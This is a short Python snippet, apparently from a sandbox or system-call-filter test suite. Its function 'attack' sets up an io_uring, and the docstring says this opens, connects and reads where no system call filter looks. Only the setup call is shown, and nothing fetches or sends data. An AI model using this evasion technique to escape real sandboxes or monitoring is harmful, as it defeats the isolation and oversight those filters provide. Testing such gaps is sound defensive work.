"""Make an io_uring, which opens, connects and reads where no system call filter looks."""

from __future__ import annotations

import ctypes


def attack(target):
    target.call("io_uring_setup", 1, ctypes.create_string_buffer(120))
    print("got a ring")
